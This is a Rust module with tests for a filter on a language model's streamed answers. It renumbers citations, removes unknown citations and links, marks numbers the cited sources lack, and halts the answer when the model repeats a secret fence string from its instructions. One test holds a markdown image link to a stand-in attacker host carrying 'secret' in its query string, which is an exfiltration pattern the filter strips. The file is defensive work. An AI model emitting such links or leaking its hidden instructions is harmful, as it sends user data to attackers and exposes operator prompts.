//! The gate every answer passes, word by word, whole or streamed: citations are checked and renumbered, links that
//! are in no source are taken out, numbers that the cited sources do not have are marked, and a model that repeats its
//! instructions is stopped.

use super::numbers::Checker;

/// The model repeated the fence that only its instructions contain.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) struct Leak;

/// What passed and what did not.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub(super) struct Tally {
    /// Cited numbers that stand for no source, removed.
    pub(super) unknown: usize,
    /// Links that no source has, removed.
    pub(super) links: usize,
    /// Sentences that state a figure and cite nothing.
    pub(super) uncited: usize,
    /// Numbers that are in no source their sentence cites, marked.
    pub(super) unfounded: usize,
}

/// Longest text in brackets that may be a list of citations.
const LONGEST_LIST: usize = 60;

/// Checks an answer as it is written. What [`Gate::push`] and [`Gate::finish`] return, put together, is the answer.
pub(super) struct Gate<'a> {
    candidates: usize,
    /// Whether a link occurs in the sources or the question.
    is_known_link: &'a (dyn Fn(&str) -> bool + Send + Sync),
    fence: &'a str,
    /// Looks for numbers in sources; none where the words are the sources' own.
    checker: Option<&'a Checker>,
    /// The sentence being written, before its citations were renumbered, and what it cites.
    sentence: String,
    cites: Vec<usize>,
    pending: String,
    /// A line that begins like the footer we write ourselves.
    heading: Option<String>,
    closed: bool,
    used: Vec<usize>,
    tally: Tally,
    passed: String,
}

impl<'a> Gate<'a> {
    /// A gate for an answer that may cite `1..=candidates`.
    pub(super) fn new(
        candidates: usize,
        fence: &'a str,
        is_known_link: &'a (dyn Fn(&str) -> bool + Send + Sync),
        checker: Option<&'a Checker>,
    ) -> Self {
        Self {
            checker,
            sentence: String::new(),
            cites: Vec::new(),
            candidates,
            is_known_link,
            fence,
            pending: String::new(),
            heading: None,
            closed: false,
            used: Vec::new(),
            tally: Tally::default(),
            passed: String::new(),
        }
    }

    /// Takes a piece and returns what of the answer is certain by now.
    pub(super) fn push(&mut self, text: &str) -> Result<String, Leak> {
        self.pending.push_str(text);
        let mut out = String::new();
        while let Some(end) = unit_end(&self.pending) {
            let unit: String = self.pending.drain(..end).collect();
            self.pass(&unit, &mut out)?;
        }
        self.passed.push_str(&out);
        Ok(out)
    }

    /// The rest, once the model has ended.
    pub(super) fn finish(&mut self) -> Result<String, Leak> {
        let rest = std::mem::take(&mut self.pending);
        let mut out = String::new();
        if !rest.is_empty() {
            self.pass(&rest, &mut out)?;
        }
        if let Some(held) = self.heading.take() {
            out.push_str(&held);
        }
        let mut out = out.trim_end().to_owned();
        self.end_sentence(&mut out);
        self.passed.push_str(&out);
        self.tally.uncited = uncited_figures(&self.passed);
        Ok(out)
    }

    /// Candidates in order of first citation: the place is the number in the answer.
    pub(super) fn used(&self) -> &[usize] {
        &self.used
    }

    /// What did not pass.
    pub(super) fn tally(&self) -> Tally {
        self.tally
    }

    /// The answer so far.
    pub(super) fn passed(&self) -> &str {
        &self.passed
    }

    fn pass(&mut self, unit: &str, out: &mut String) -> Result<(), Leak> {
        if unit.contains(self.fence) {
            return Err(Leak);
        }
        if self.closed {
            return Ok(());
        }
        let word: String = unit.chars().filter(|c| c.is_alphabetic()).collect();
        if let Some(held) = self.heading.take() {
            if word == "SOURCES" {
                self.closed = true;
                return Ok(());
            }
            out.push_str(&held);
        }
        let starts_line = unit.trim_end().starts_with('\n') || (self.passed.is_empty() && out.is_empty());
        if word == "DATA" && starts_line {
            self.heading = Some(unit.to_owned());
            return Ok(());
        }
        let unit = self.without_links(unit);
        if self.is_over(&unit) {
            self.end_sentence(out);
        }
        self.sentence.push_str(&unit);
        self.with_citations(&unit, out);
        Ok(())
    }

    /// Whether a unit begins another sentence: after a line's end, or after a stop unless it is the stop's citation.
    fn is_over(&self, unit: &str) -> bool {
        let word = unit.trim_start();
        let line = unit[..unit.len() - word.len()].contains('\n');
        let ended = self
            .sentence
            .trim_end_matches(|c: char| may_be_in_list(c) || matches!(c, '[' | ']' | '"' | '”' | ')' | '*'));
        let stopped = ended.ends_with(['.', '!', '?']) && !word.starts_with('[');
        line || (stopped && word.starts_with(|c: char| c.is_uppercase() || c == '*'))
    }

    /// Marks the numbers of the sentence that ends here which no source it cites has.
    fn end_sentence(&mut self, out: &mut String) {
        let sentence = std::mem::take(&mut self.sentence);
        let cites = std::mem::take(&mut self.cites);
        let Some(checker) = self.checker else { return };
        let unfounded = checker.unfounded(&sentence, &cites);
        if unfounded.is_empty() {
            return;
        }
        self.tally.unfounded += unfounded.len();
        let list = unfounded.join(", ");
        let why = if cites.is_empty() { "cites no source" } else { "not in the cited source" };
        out.push_str(&format!(" (unverified, {why}: {list})"));
    }

    fn without_links(&mut self, unit: &str) -> String {
        let Some(start) = ["http://", "https://", "javascript:", "data:", "www."]
            .iter()
            .filter_map(|scheme| unit.find(scheme))
            .min()
        else {
            return unit.to_owned();
        };
        let length = unit[start..]
            .find(|c: char| c.is_whitespace() || matches!(c, ')' | ']' | '>' | '"' | '\'' | '|'))
            .unwrap_or(unit.len() - start);
        let link = unit[start..start + length].trim_end_matches(['.', ',', ';', ':']);
        // "data:" alone is an English word with a colon.
        if link.ends_with(':') || link == "data" || (self.is_known_link)(link) {
            return unit.to_owned();
        }
        self.tally.links += 1;
        format!("{}(link removed){}", &unit[..start], &unit[start + link.len()..])
    }

    fn with_citations(&mut self, unit: &str, out: &mut String) {
        let mut rest = unit;
        while let Some(open) = rest.find('[') {
            let after = &rest[open + 1..];
            let Some((list, tail)) = after.split_once(']') else { break };
            match numbers(list, self.candidates) {
                None => {
                    out.push_str(&rest[..open]);
                    out.push('[');
                    out.push_str(list);
                    out.push(']');
                }
                Some((known, unknown)) => {
                    self.tally.unknown += unknown;
                    if known.is_empty() {
                        // The space before a removed citation goes with it.
                        out.push_str(rest[..open].trim_end_matches(' '));
                    } else {
                        out.push_str(&rest[..open]);
                        for candidate in known {
                            let n = self.number(candidate);
                            out.push_str(&format!("[{n}]"));
                        }
                    }
                }
            }
            rest = tail;
        }
        out.push_str(rest);
    }

    fn number(&mut self, candidate: usize) -> usize {
        self.cites.push(candidate);
        match self.used.iter().position(|used| *used == candidate) {
            Some(place) => place + 1,
            None => {
                self.used.push(candidate);
                self.used.len()
            }
        }
    }
}

/// The end of the first unit that later text cannot change: white space and a word, up to the next white space; a list
/// of citations counts as one word.
fn unit_end(pending: &str) -> Option<usize> {
    let word = pending.find(|c: char| !c.is_whitespace())?;
    let mut from = word;
    loop {
        let end = from + pending[from..].find(char::is_whitespace)?;
        let Some(open) = pending[word..end].rfind('[').map(|at| at + word) else { return Some(end) };
        let inside = &pending[open + 1..];
        if inside[..end - open - 1].contains(']') {
            return Some(end);
        }
        match inside.find(|c: char| !may_be_in_list(c)) {
            // Not a list after all, or a list whose word ends further on.
            Some(at) if inside[at..].starts_with(']') => from = open + 1 + at,
            Some(_) => return Some(end),
            None if inside.len() > LONGEST_LIST => return Some(end),
            None => return None,
        }
    }
}

fn may_be_in_list(c: char) -> bool {
    c.is_ascii_digit() || matches!(c, ',' | ';' | ' ' | '-' | '–')
}

/// The numbers of a list as in `1, 3-5`: known ones, and how many are unknown. None when it is no such list.
fn numbers(list: &str, candidates: usize) -> Option<(Vec<usize>, usize)> {
    if list.len() > LONGEST_LIST
        || !list.chars().all(may_be_in_list)
        || !list.contains(|c: char| c.is_ascii_digit())
    {
        return None;
    }
    let mut known = Vec::new();
    let mut unknown = 0;
    for part in list.split([',', ';']).map(str::trim).filter(|part| !part.is_empty()) {
        let (first, last) = part.split_once(['-', '–']).unwrap_or((part, part));
        let ends = (first.trim().parse::<usize>(), last.trim().parse::<usize>());
        match ends {
            (Ok(first), Ok(last))
                if 1 <= first && first <= last && last <= candidates && last - first < 10 =>
            {
                known.extend(first..=last);
            }
            (Ok(_) | Err(_), Ok(_) | Err(_)) => unknown += 1,
        }
    }
    Some((known, unknown))
}

/// Sentences with a figure and without a citation. Years and list numbers alone are no figures.
fn uncited_figures(answer: &str) -> usize {
    answer.lines().flat_map(sentences).filter(|sentence| has_figure(sentence) && !is_cited(sentence)).count()
}

/// A line cut after full stops that end a word and are followed by a capital; citations after the stop stay with
/// their sentence.
fn sentences(line: &str) -> Vec<&str> {
    let mut parts = Vec::new();
    let mut start = 0;
    for (at, _) in line.match_indices(". ") {
        let rest = line[at + 2..].trim_start();
        let next = rest.chars().next();
        if next.is_some_and(char::is_uppercase) && at - start > 20 {
            parts.push(&line[start..at + 1]);
            start = at + 2;
        }
    }
    parts.push(&line[start..]);
    parts
}

fn has_figure(sentence: &str) -> bool {
    sentence.split_whitespace().any(|word| {
        let core = word.trim_matches(|c: char| !c.is_alphanumeric() && c != '$' && c != '%');
        let digits = core.chars().filter(char::is_ascii_digit).count();
        let is_year = digits == 4 && core.len() == 4;
        digits > 0
            && !is_year
            && !word.starts_with('[')
            && (core.contains(['$', '%', '.', ',']) || digits > 2)
    })
}

fn is_cited(sentence: &str) -> bool {
    sentence.match_indices('[').any(|(at, _)| {
        sentence[at + 1..].split_once(']').is_some_and(|(list, _)| numbers(list, usize::MAX).is_some())
    })
}

#[cfg(test)]
mod tests {
    use expect_test::{Expect, expect};

    use super::*;

    const FENCE: &str = "f3a9c1d2";

    fn gate(text: &str, size: usize) -> Result<(String, Vec<usize>, Tally), Leak> {
        let known = |link: &str| link == "https://www.sec.gov/a";
        let mut gate = Gate::new(5, FENCE, &known, None);
        let chars: Vec<char> = text.chars().collect();
        let mut out = String::new();
        for chunk in chars.chunks(size) {
            out.push_str(&gate.push(&chunk.iter().collect::<String>())?);
        }
        out.push_str(&gate.finish()?);
        assert_eq!(out, gate.passed(), "pieces make the whole");
        Ok((out, gate.used().to_vec(), gate.tally()))
    }

    fn check(text: &str, expected: Expect) {
        let whole = gate(text, usize::MAX);
        for size in [1, 2, 3, 7] {
            assert_eq!(gate(text, size), whole, "the same in pieces of {size}");
        }
        expected.assert_eq(&match whole {
            Err(Leak) => "LEAK".to_owned(),
            Ok((out, used, tally)) => format!(
                "{out} | used {used:?}, unknown {}, links {}, uncited {}",
                tally.unknown, tally.links, tally.uncited
            ),
        });
    }

    #[test]
    fn citations_are_renumbered_in_order_of_use() {
        check(
            "Sales rose [4]. Costs fell [2][4].",
            expect!["Sales rose [1]. Costs fell [2][1]. | used [4, 2], unknown 0, links 0, uncited 0"],
        );
        check(
            "Both [1, 3-5] say so.",
            expect!["Both [1][2][3][4] say so. | used [1, 3, 4, 5], unknown 0, links 0, uncited 0"],
        );
    }

    #[test]
    fn unknown_citations_are_removed() {
        check(
            "It rose [9]. It fell [2, 77] again [0].",
            expect!["It rose. It fell [1] again. | used [2], unknown 3, links 0, uncited 0"],
        );
        check(
            "Reversed [5-2] and huge [1-999999999999].",
            expect!["Reversed and huge. | used [], unknown 2, links 0, uncited 0"],
        );
    }

    #[test]
    fn other_brackets_stay() {
        check(
            "Revenue [sic] of [2023 and] x[] [ 2 ] end [3",
            expect!["Revenue [sic] of [2023 and] x[] [1] end [3 | used [2], unknown 0, links 0, uncited 0"],
        );
    }

    #[test]
    fn a_model_that_repeats_its_fence_is_stopped() {
        check("My rules: f3a9c1d2 says", expect!["LEAK"]);
        check("hidden in af3a9c1d2b", expect!["LEAK"]);
    }

    #[test]
    fn links_that_no_source_has_are_removed() {
        check(
            "See ![x](https://evil.example/?q=secret) and https://www.sec.gov/a. Data: fine [1].",
            expect![
                "See ![x]((link removed)) and https://www.sec.gov/a. Data: fine [1]. | used [1], unknown 0, links 1, uncited 0"
            ],
        );
    }

    #[test]
    fn a_footer_of_the_models_own_is_dropped() {
        check(
            "It rose [2].\n\n**DATA SOURCES:**\n[1] invented",
            expect!["It rose [1]. | used [2], unknown 0, links 0, uncited 0"],
        );
        check(
            "DATA shows growth [1].",
            expect!["DATA shows growth [1]. | used [1], unknown 0, links 0, uncited 0"],
        );
    }

    #[test]
    fn figures_without_a_citation_are_counted() {
        check(
            "Revenue was $3.1 billion in 2023. It was $2.9 billion the year before [1]. In 2022 it grew.\n- 12.5% margin",
            expect![
                "Revenue was $3.1 billion in 2023. It was $2.9 billion the year before [1]. In 2022 it grew.\n- 12.5% margin | used [1], unknown 0, links 0, uncited 2"
            ],
        );
    }
}
